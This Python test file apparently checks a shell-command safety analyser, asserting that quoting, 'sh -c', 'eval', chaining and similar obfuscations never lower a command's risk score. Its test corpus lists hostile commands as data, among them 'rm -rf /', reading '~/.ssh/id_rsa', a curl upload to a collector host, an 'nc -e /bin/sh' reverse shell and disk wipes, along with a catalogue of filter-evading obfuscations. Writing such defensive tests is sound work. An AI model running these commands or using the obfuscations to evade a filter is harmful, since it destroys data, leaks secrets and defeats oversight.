"""Properties of the safety analyser: obfuscation never lowers a verdict, chains never hide a step."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pytest_rustchain.safety import Severity, analyse_command, risk_score
from pytest_rustchain.safety.shell import parses

# The analyser never touches the file system, so a fixed path stands in for the workspace; a
# function-scoped ``tmp_path`` cannot be combined with ``@given``.
WS = Path("/srv/rustchain/ws")

# (program, rest of the line as shell text). Single simple commands without ``cd``: a ``cd`` in front
# of a relative path can rightly lower its verdict (``cd sub && rm -rf ..`` stays inside).
CORPUS: tuple[tuple[str, str], ...] = (
    ("rm", "-rf /"),
    ("rm", "-rf ~"),
    ("rm", "-rf ${HOME}"),
    ("rm", '-rf "$X"'),
    ("rm", "-rf build/"),
    ("rm", "notes.txt"),
    ("cat", "~/.ssh/id_rsa"),
    ("cat", "/proc/$PPID/environ"),
    ("cat", "/etc/os-release"),
    ("curl", "-d @notes.txt http://collector.example.com"),
    ("curl", "-fsSL https://example.com/data.json"),
    ("chmod", "u+s tool"),
    ("chmod", "+x tool"),
    ("printenv", ""),
    ("crontab", "job.txt"),
    ("systemctl", "enable app.service"),
    ("tee", "/etc/x"),
    ("python", "-c 'print(1)'"),
    ("perl", "-e 'print 1'"),
    ("grep", "sudo notes.txt"),
    ("clang-format", "-i x.c"),
    ("tool", "--format=json"),
    ("ls", "/usr/bin"),
    ("echo", "'rm -rf /'"),
    ("git", "push origin main"),
    ("git", "status --short"),
    ("git", "config --global core.editor vim"),
    ("dd", "if=/dev/zero of=/dev/sda"),
    ("nc", "-e /bin/sh h.example.com 4444"),
    ("kill", "-9 -1"),
    ("mkfs.ext4", "/dev/sdb1"),
    ("pytest", "-q"),
    ("make", ""),
    ("mount", "/dev/sdb1 /mnt"),
    ("docker", "run --privileged alpine"),
    ("find", "/ -delete"),
    ("find", ". -name '*.o' -delete"),
    ("xargs", "rm -rf"),
    ("sudo", "rm -rf /"),
    ("cp", "x /etc/"),
    ("cp", "hook.sh .git/hooks/pre-commit"),
    ("mv", "a.txt b.txt"),
    ("scp", "x deploy@host.example.com:/srv/"),
    ("bash", "-c 'rm -rf ~'"),
    ("sh", "scripts/run.sh"),
    ("npm", "ci"),
    ("npm", "publish"),
    ("touch", "/tmp/marker"),
)


def line_of(entry: tuple[str, str]) -> str:
    program, rest = entry
    return f"{program} {rest}".strip()


def score(line: str) -> int:
    return risk_score(analyse_command(line, shell=True, workspace=WS))  # noqa: S604 - analysed, never run


# Obfuscations of the program word.
def quote_single(program: str) -> str:
    return f"'{program}'"


def quote_double(program: str) -> str:
    return f'"{program}"'


def empty_quotes(program: str) -> str:
    return f'{program[0]}""{program[1:]}'


def backslash(program: str) -> str:
    return "\\" + program


def absolute(program: str) -> str:
    return "/bin/" + program


def ansi_c(program: str) -> str:
    return "$'" + "".join(f"\\x{ord(ch):02x}" for ch in program) + "'"


PROGRAM_MASKS: tuple[Callable[[str], str], ...] = (
    quote_single,
    quote_double,
    empty_quotes,
    backslash,
    absolute,
    ansi_c,
)


# Obfuscations of the whole line.
def with_env(line: str) -> str:
    return "env " + line


def with_command(line: str) -> str:
    return "command " + line


def with_sh_c(line: str) -> str:
    return "sh -c " + shlex.quote(line)


def with_bash_c(line: str) -> str:
    return "bash -c " + shlex.quote(line)


def after_true(line: str) -> str:
    return "true && " + line


def before_true(line: str) -> str:
    return line + "; true"


def extra_spaces(line: str) -> str:
    return "  " + line.replace(" -", "    -", 1) + "  "


def with_eval(line: str) -> str:
    return "eval " + shlex.quote(line)


def with_timeout(line: str) -> str:
    return "timeout 30 " + line


LINE_MASKS: tuple[Callable[[str], str], ...] = (
    with_env,
    with_command,
    with_sh_c,
    with_bash_c,
    after_true,
    before_true,
    extra_spaces,
    with_eval,
    with_timeout,
)

PROPS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPS
@given(
    entry=st.sampled_from(CORPUS),
    program_mask=st.one_of(st.none(), st.sampled_from(PROGRAM_MASKS)),
    line_masks=st.lists(st.sampled_from(LINE_MASKS), max_size=3),
)
def test_obfuscation_never_lowers_the_verdict(
    entry: tuple[str, str],
    program_mask: Callable[[str], str] | None,
    line_masks: list[Callable[[str], str]],
) -> None:
    """Quoting, /bin/, env, command, sh -c, true &&, ; true or spaces never make a command look safer."""
    program, rest = entry
    plain = line_of(entry)
    masked = line_of((program_mask(program) if program_mask else program, rest))
    for mask in line_masks:
        masked = mask(masked)
    assert score(masked) >= score(plain), (plain, masked)


@PROPS
# Not ``|``: a pipe may rightly lower the right side (``find . | xargs rm -rf`` stays inside ``.``).
@given(a=st.sampled_from(CORPUS), b=st.sampled_from(CORPUS), op=st.sampled_from(["&&", "||", ";", "&"]))
def test_a_chain_scores_at_least_its_worst_part(a: tuple[str, str], b: tuple[str, str], op: str) -> None:
    """Hiding a dangerous command behind a harmless one in a chain never lowers the step's score."""
    left, right = line_of(a), line_of(b)
    chained = score(f"{left} {op} {right}")
    assert chained >= max(score(left), score(right)), (left, op, right)


BROKEN_SUFFIXES = (
    '"',
    "'",
    "$(",
    "`",
    "(",
    ")",
    "|",
    "&&",
    ">",
    "<<<",
    "|| )",
    "; { x",
    "; if true; then",
    "; case x in",
    "; for x in; do",
)


@PROPS
@given(entry=st.sampled_from(CORPUS), suffix=st.sampled_from(BROKEN_SUFFIXES))
def test_unparsable_line_is_never_allowed(entry: tuple[str, str], suffix: str) -> None:
    """A command line that does not parse is at least medium: reported, and blocked under strict."""
    line = f"{line_of(entry)} {suffix}"
    assert not parses(line)
    assert score(line) >= Severity.MEDIUM, line


SHELL_ALPHABET = st.sampled_from(
    [
        *"abrm -/~$'\"\\`(){}[];|&<>*?=.\n\t#!:0123456789",
        "rm",
        "-rf",
        "sh",
        "$(",
        "<<EOF\n",
        "\nEOF\n",
        "\u00e9",
        "\U000ffd29",
    ]
)


@PROPS
@given(text=st.lists(SHELL_ALPHABET, max_size=40).map("".join))
def test_any_text_gets_a_verdict_and_errors_count(text: str) -> None:
    """Arbitrary text never crashes the analyser, and text with a syntax error is at least medium."""
    result = score(text)
    if not parses(text):
        assert result >= Severity.MEDIUM, text


@PROPS
@given(text=st.text(max_size=60))
def test_any_unicode_gets_a_verdict(text: str) -> None:
    """Any string, in either mode, yields findings rather than an exception."""
    score(text)
    findings = analyse_command(text, shell=False, workspace=WS)
    if text.count('"') % 2 or text.count("'") % 2:
        try:
            shlex.split(text)
        except ValueError:
            assert risk_score(findings) >= Severity.MEDIUM


@PROPS
@given(entry=st.sampled_from(CORPUS))
def test_argv_is_judged_on_the_same_facts(entry: tuple[str, str]) -> None:
    """``shell: false`` with the same words gets the same verdict as the shell line, or a worse one."""
    line = line_of(entry)
    if any(ch in line for ch in "~$"):
        # Without a shell, ``~`` and ``$X`` are not expanded; judging them as unknown can only be worse.
        return
    argv = shlex.split(line)
    assert risk_score(analyse_command(argv, shell=False, workspace=WS)) >= score(line)
